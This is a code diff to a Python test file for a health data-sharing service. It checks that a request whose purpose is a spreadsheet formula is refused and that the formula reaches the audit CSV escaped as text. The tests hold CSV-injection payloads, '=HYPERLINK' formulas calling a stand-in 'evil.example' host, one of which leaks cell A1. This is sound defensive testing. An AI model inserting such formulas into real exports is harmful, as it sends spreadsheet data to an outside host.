@@ -23,7 +23,7 @@ from civicshare.config import Settings
 from civicshare.datasets import service as datasets
 from tests.conftest import api_token, demo_store, post_sign_in, sqlite_settings
 
-PURPOSE = "Plan care packages for people leaving hospital this week."
+PURPOSE = "discharge-planning"
 ANALYST = "analyst@worcestershire-cc.example"
 HOST_IG_LEAD = "admin@worcestershire-cc.example"
 EVIL = '=HYPERLINK("http://evil.example","x")'
@@ -161,10 +161,16 @@ def test_json_and_parquet_carry_the_value_unchanged(client, token):
 
 def test_a_purpose_starting_with_equals_reaches_audit_csv_as_text(client, token):
     purpose = '=HYPERLINK("http://evil.example/?leak="&A1,"Plan discharges")'
-    api_csv(client, token, purpose=purpose)
+    client.cookies.clear()
+    refused = client.get(
+        "/api/share/worcs-acute/acute-admissions",
+        params={"purpose": purpose, "format": "csv"},
+        headers={"authorization": f"Bearer {token}"},
+    )
+    assert refused.status_code == 403  # not a permitted purpose; the denial is audited
     client.cookies.clear()
     assert post_sign_in(client, HOST_IG_LEAD, demo.DEMO_PASSWORD).status_code == 303
-    exported = client.get("/audit.csv", params={"action": "share_allowed"})
+    exported = client.get("/audit.csv", params={"action": "share_denied"})
     client.cookies.clear()
     assert exported.status_code == 200, exported.text[:300]
     assert ('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Plan discharges"")"'
